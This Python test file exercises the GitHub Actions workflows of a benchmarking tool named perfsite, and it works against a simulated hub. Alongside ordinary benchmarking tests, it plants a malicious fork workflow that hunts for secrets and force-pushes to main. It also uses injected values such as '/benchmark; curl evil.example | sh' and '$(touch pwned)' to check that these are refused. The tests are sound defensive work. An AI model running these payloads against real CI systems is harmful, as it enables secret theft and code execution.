"""A project that `perfsite init` alone has set up: its own workflows' steps, from benchmark file to published page."""

import json
import os
import re
import shutil
import subprocess
import sys
import urllib.request
from datetime import UTC, datetime, timedelta

import pytest
import yaml
from loopback_hub import LoopbackHub, git_in

pytestmark = pytest.mark.slow
CLOCK = """import json, os, random, subprocess
sha = subprocess.run(["git", "rev-parse", "HEAD"], capture_output=True, text=True, check=True).stdout
chance = random.Random(sha + os.environ.get("BENCHMARK_TIME", ""))
rows = []
for name, seconds in json.load(open("speed.json")).items():
    times = [seconds * chance.gauss(1, 0.004) for _ in range(10)]
    rows.append({"command": name, "times": times, "median": sorted(times)[5]})
json.dump({"results": rows}, open("bench.json", "w"))
"""
WHO = {"NAME": "Ada Example", "EMAIL": "ada@example.org"}
RUNNER = {"GITHUB_ACTIONS": "true", "ImageOS": "ubuntu24", "RUNNER_ARCH": "X64"}
SECRETS = {"PERFSITE_SLACK_URL": "http://127.0.0.1:9/planted-secret"}
MEASURE, PUBLISH = "perfsite measure", "perfsite publish"


def speed(**changed):
    return json.dumps({"parse": 0.12, "print": 0.05} | changed)


class Project:
    """A project on a hub."""

    def __init__(self, path):
        self.path = path

    def git(self, *arguments, **more):
        return git_in(self.path, *arguments, **more).strip()

    def good(self, *arguments, env=None):
        command = [sys.executable, "-m", "perfsite", *arguments]
        environment = {**os.environ, **(env or {})}
        done = subprocess.run(
            command, cwd=self.path, env=environment, capture_output=True, text=True, timeout=60, check=False
        )
        assert done.returncode == 0, done.stderr

    def change(self, subject, files, *, branch="main"):
        """Commit files on a branch that begins at main, push it, return its sha."""
        if branch != "main" or self.git("branch", "--show-current") != "main":
            self.git("switch", "-q", *([branch] if branch == "main" else ["-C", branch, "main"]))
        for name, text in files.items():
            place = self.path / name
            place.parent.mkdir(parents=True, exist_ok=True)
            place.write_text(text, encoding="utf-8")
        self.git("add", "--all")
        time = datetime(2026, 1, 1, tzinfo=UTC) + timedelta(hours=int(self.git("rev-list", "--count", "--all")))
        who = {f"GIT_{role}_{key}": text for role in ("AUTHOR", "COMMITTER") for key, text in WHO.items()}
        dates = {"GIT_AUTHOR_DATE": time.isoformat(), "GIT_COMMITTER_DATE": time.isoformat()}
        self.git("commit", "-q", "--allow-empty", "-m", subject, env=who | dates)
        self.git("push", "-q", "--force", "origin", branch)
        return self.git("rev-parse", "HEAD")


@pytest.fixture(scope="module")
def measured(tmp_path_factory):
    """Make a repository with a history of ten measured commits, once."""
    top = tmp_path_factory.mktemp("measured")
    project, origin = Project(top / "work"), top / "origin.git"
    project.path.mkdir()
    origin.mkdir()
    git_in(origin, "init", "-q", "--bare", "-b", "main")
    project.git("init", "-q", "-b", "main")
    project.git("remote", "add", "origin", str(origin))
    (project.path / ".git" / "info" / "exclude").write_text("bench.json\n", encoding="utf-8")
    project.change("code", {"clock.py": CLOCK, "speed.json": speed()})
    for i in range(10):
        project.change(f"work {i}", {"work.txt": str(i)})
        subprocess.run([sys.executable, "clock.py"], cwd=project.path, check=True, timeout=60)
        project.good("record", "bench.json", "--push", env=RUNNER)
    return top


@pytest.fixture
def make_project(measured, tmp_path):
    """Make a hub with a copy of that repository in it, set up by `perfsite init`."""
    made = []

    def make(**how):
        hub = LoopbackHub(tmp_path / "hub", **how).__enter__()
        made.append(hub)
        shutil.rmtree(hub.origin)
        shutil.copytree(measured / "origin.git", hub.origin)
        hub.configure()
        shutil.copytree(measured / "work", tmp_path / "work")
        project = Project(tmp_path / "work")
        project.git("remote", "set-url", "origin", str(hub.origin))
        command = ("--benchmark-command", "python clock.py", "--result-file", "bench.json")
        project.good("init", *command, "--site-url", hub.pages.url)
        project.change("set up perfsite", {})
        return project, hub, hub.runner(secrets=SECRETS)

    yield make
    for hub in made:
        hub.__exit__()
        assert hub.problems == []
        assert hub.overreached() == []


def results(runs):
    return {f"{run.name}/{name}": job.result for run in runs for name, job in run.jobs.items()}


def said(runs):
    return "".join(run.said for run in runs)


def opened(url):
    with urllib.request.urlopen(url, timeout=10) as page:
        return page.read().decode()


def lines(hub, under=""):
    """Return all run lines of the history branch below a folder."""
    listed = hub.git("ls-tree", "-r", "--name-only", "perf-history", *([under] if under else [])).splitlines()
    texts = [hub.git("show", f"perf-history:{path}") for path in listed if path.endswith(".jsonl")]
    return [json.loads(line) for text in texts for line in text.splitlines()]


TOLD = {
    f"{MEASURE}/measure": "success",
    f"{PUBLISH}/receive": "success",
    f"{PUBLISH}/site": "success",
    f"{PUBLISH}/pull-request": "success",
    f"{PUBLISH}/trend": "skipped",
}


def test_a_forks_pull_request_that_is_slower_gets_one_comment_with_a_link_that_opens(make_project):
    project, hub, runner = make_project()
    head = project.change("slower", {"speed.json": speed(parse=0.15)}, branch="topic")
    runs = hub.proposed(runner, 7, head, fork="eve/perf")
    assert results(runs) == TOLD | {f"{PUBLISH}/pull-request": "failure"}, said(runs)
    (comment,) = hub.comments[7]
    assert re.search(r"parse.*\+2[456]\.?\d* %", comment["body"], re.DOTALL)
    link = f"{hub.pages.url}commits/{head}/"
    assert link in comment["body"]
    assert "parse" in opened(link)
    (check,) = hub.checks
    assert (check["head_sha"], check["conclusion"]) == (head, "failure")
    (run,) = lines(hub, "pull/github-ubuntu24-x86_64/")
    assert (run["commit"]["sha"], run["pull_request"]) == (head, 7)
    everything = said(runs) + json.dumps([hub.comments, hub.checks, lines(hub)]) + runs[1].jobs["pull-request"].summary
    assert "planted-secret" not in everything
    assert not any(token in everything for token in hub.tokens)


def test_what_is_pushed_to_a_pull_request_later_changes_its_one_comment(make_project):
    project, hub, runner = make_project()
    first = project.change("slower", {"speed.json": speed(parse=0.15)}, branch="topic")
    hub.proposed(runner, 7, first)
    second = project.change("mended", {"speed.json": speed()}, branch="topic")
    runs = hub.proposed(runner, 7, second)
    assert results(runs) == TOLD, said(runs)
    (comment,) = hub.comments[7]
    assert second[:7] in comment["body"]
    assert first not in comment["body"]


def test_a_push_to_main_is_a_point_of_the_trend_on_a_published_site(make_project):
    project, hub, runner = make_project()
    sha = project.change("more", {"work.txt": "more"})
    runs = hub.pushed(runner)
    assert results(runs) == TOLD | {f"{PUBLISH}/pull-request": "skipped", f"{PUBLISH}/trend": "success"}, said(runs)
    assert sha in {run["commit"]["sha"] for run in lines(hub, "github-ubuntu24-x86_64/")}
    assert sha[:8] in runs[1].jobs["trend"].summary
    assert "parse" in opened(f"{hub.pages.url}commits/{sha}/")
    assert hub.comments == {}


def test_a_publishing_that_is_run_again_deploys_the_site_of_the_newest_commit(make_project):
    project, hub, runner = make_project()
    sha = project.change("more", {"work.txt": "more"})
    published = hub.pushed(runner)[1]
    newest = project.change("settings", {"work.txt": "newest"})
    (again,) = runner.again(published.id)
    assert (again.attempt, again.jobs["site"].result) == (2, "success"), again.said
    assert hub.pages.deployments == 2
    assert "parse" in opened(f"{hub.pages.url}commits/{sha}/")
    clones = sorted((hub.folder / "jobs" / f"{published.id}-2").glob("*/work/*"))
    assert {git_in(clone, "rev-parse", "HEAD", "main").strip() for clone in clones} == {f"{newest}\n{newest}"}


def test_a_regression_on_main_makes_the_run_fail_after_the_site_is_published(make_project):
    project, hub, runner = make_project()
    sha = project.change("slower", {"speed.json": speed(parse=0.15)})
    runs = hub.pushed(runner)
    trend = runs[1].jobs["trend"]
    assert [trend.step("Alert").conclusion, trend.step("Judge").exit_code] == ["success", 1], said(runs)
    assert "parse" in opened(f"{hub.pages.url}commits/{sha}/")


def test_of_a_private_repository_everything_is_read_with_the_jobs_own_login(make_project):
    project, hub, runner = make_project(is_private=True)
    head = project.change("slower", {"speed.json": speed(parse=0.15)}, branch="topic")
    runs = hub.proposed(runner, 7, head)
    assert results(runs) == TOLD | {f"{PUBLISH}/pull-request": "failure"}, said(runs)
    assert "cannot be read" not in said(runs)
    configs = [file.read_text("utf-8") for file in (hub.folder / "jobs").rglob(".git/config")]
    assert len(configs) == 4
    assert not any(token in text or "extraheader" in text for text in configs for token in hub.tokens)


ATTACK = """name: perfsite measure
on: pull_request
permissions: {contents: write, pull-requests: write}
jobs:
  measure:
    runs-on: ubuntu-24.04
    steps:
      - uses: actions/checkout@9c091bb21b7c1c1d1991bb908d89e4e9dddfe3e0
      - name: steal
        run: |
          env | grep -i planted || true
          git push origin HEAD:refs/heads/main 2>&1 || true
          python clock.py
          perfsite record bench.json --output run.jsonl
          sed -i 's/"sha":"[0-9a-f]*"/"sha":"'"$GITHUB_SHA"'"/' run.jsonl
      - uses: actions/upload-artifact@043fb46d1a93c77aae656e7c1c64a875d1fc6a0a
        with: {name: perfsite-run, path: run.jsonl}
"""


def test_a_fork_that_rewrites_the_workflow_gains_nothing(make_project):
    project, hub, runner = make_project()
    before, stored = hub.sha(), len(lines(hub))
    head = project.change("attack", {".github/workflows/perfsite-measure.yml": ATTACK}, branch="topic")
    runs = hub.proposed(runner, 7, head, fork="eve/perf")
    assert results(runs) == {
        f"{MEASURE}/measure": "success",
        f"{PUBLISH}/receive": "failure",
        f"{PUBLISH}/site": "skipped",
        f"{PUBLISH}/pull-request": "skipped",
        f"{PUBLISH}/trend": "skipped",
    }, said(runs)
    assert "403" in runs[0].jobs["measure"].step("steal").said
    assert "claims to have measured" in runs[1].jobs["receive"].step("Receive").said
    assert (hub.sha(), len(lines(hub)), hub.comments[7], hub.checks) == (before, stored, [], [])
    assert "planted-secret" not in said(runs)


class TestCommand:
    """`/benchmark`, in a comment."""

    @pytest.fixture
    def proposed(self, make_project):
        project, hub, runner = make_project()
        head = project.change("slower", {"speed.json": speed(parse=0.15)}, branch="topic")
        hub.proposed(runner, 7, head, fork="eve/perf")
        return hub, runner, head

    @pytest.mark.parametrize("is_followed", [False, True])
    def test_measures_the_head_again_and_the_one_comment_stays_one(self, proposed, is_followed):
        hub, runner, head = proposed
        asked, *again = hub.commented(runner, 7, "/benchmark\nplease", is_followed=is_followed)
        assert asked.conclusion == "success", asked.said
        assert results(again) == TOLD | {f"{PUBLISH}/pull-request": "failure"}, said(again)
        assert again[0].attempt == 2
        assert [(run["commit"]["sha"], run["source"]["attempt"]) for run in lines(hub, "pull/")] == [
            (head, 1),
            (head, 2),
        ]
        assert len(hub.comments[7]) == 1

    @pytest.mark.parametrize(
        ("body", "login", "why"),
        [
            ("/benchmark", "mallory", "mallory may not write to this repository"),
            ("/benchmark; curl evil.example | sh", "ada", "does not begin with a line that says /benchmark"),
            ("/benchmark $(id) `id` ${{ secrets.X }}", "ada", "does not begin with a line"),
        ],
    )
    def test_is_refused(self, proposed, body, login, why):
        hub, runner, _ = proposed
        runs = hub.commented(runner, 7, body, login=login)
        assert [run.name for run in runs] == ["perfsite remeasure"]
        assert why in said(runs)
        assert len(lines(hub, "pull/")) == 1

    def test_what_it_measured_can_be_published_by_hand(self, proposed):
        hub, runner, head = proposed
        measured = next(run.id for run in runner.runs if run.name == MEASURE)
        (run,) = hub.dispatched(runner, "perfsite-publish.yml", {"run-id": str(measured)})
        assert run.jobs["receive"].result == "success", run.said
        assert "1 known already" in run.said
        assert [line["commit"]["sha"] for line in lines(hub, "pull/")] == [head]
        assert len(hub.comments[7]) == 1
        (refused,) = hub.dispatched(runner, "perfsite-publish.yml", {"run-id": "1 --push; id"})
        assert refused.jobs["receive"].step("Receive").exit_code == 2

    def test_is_not_meant_by_other_comments(self, proposed):
        hub, runner, _ = proposed
        runs = hub.commented(runner, 7, "I like /benchmark")
        assert set(results(runs).values()) == {"skipped"}


def test_a_run_by_hand_judges_against_what_was_asked_for(make_project):
    _, hub, runner = make_project()
    base = hub.git("rev-parse", "main~3").strip()
    runs = hub.dispatched(runner, "perfsite-measure.yml", {"baseline_ref": "main~3", "benchmark_time": "3"})
    measure = runs[0].jobs["measure"]
    assert measure.result == "success", said(runs)
    assert measure.step("Run the benchmarks").environment["BENCHMARK_TIME"] == "3"
    assert measure.step("Judge against the commit that was asked for").conclusion == "success"
    assert measure.summary
    assert base
    refused = hub.dispatched(runner, "perfsite-measure.yml", {"baseline_ref": "$(touch pwned) --help"})[0]
    assert refused.jobs["measure"].step("Judge against the commit that was asked for").exit_code != 0
    assert list(hub.folder.rglob("pwned")) == []


def test_a_release_that_is_published_gets_its_section(make_project):
    project, hub, runner = make_project()
    project.git("tag", "v1.0", "main~8")
    project.git("tag", "v1.1", "main~1")
    project.git("push", "-q", "origin", "--tags")
    (run,) = hub.released(runner, "v1.1")
    assert run.conclusion == "success", run.said
    (release,) = hub.releases.values()
    assert "## Performance" in release["body"]
    assert "v1.0" in release["body"]


def test_the_composite_action_measures_in_a_workflow_of_ones_own(make_project):
    project, hub, runner = make_project()
    runner.variables = {**runner.variables, **installing()}
    text = {
        "name": MEASURE,
        "on": {"push": {"branches": ["main"]}},
        "permissions": {},
        "jobs": {
            "measure": {
                "runs-on": "ubuntu-24.04",
                "permissions": {"contents": "read"},
                "steps": [
                    {"uses": "actions/checkout@v7", "with": {"persist-credentials": False}},
                    {
                        "uses": "perfsite/perfsite@main",
                        "with": {
                            "command": 'python clock.py\necho "it\'s $((1 + 1))"',
                            "files": "bench.json",
                            "format": "hyperfine",
                            "environment": "github-ubuntu24-x86_64",
                        },
                    },
                ],
            }
        },
    }
    sha = project.change("own", {".github/workflows/perfsite-measure.yml": yaml.safe_dump(text)})
    runs = hub.pushed(runner)
    assert results(runs)[f"{PUBLISH}/site"] == "success", said(runs)
    assert "it's 2" in said(runs)
    assert sha in {run["commit"]["sha"] for run in lines(hub, "github-ubuntu24-x86_64/")}


def installing():
    """Return variables with which pip builds and installs perfsite itself without a network, on what is here."""
    import sysconfig

    return {
        "PIP_NO_DEPS": "1",
        "PIP_NO_BUILD_ISOLATION": "0",  # pip reads this as: no isolation
        "PYTHONPATH": sysconfig.get_paths()["purelib"],
    }
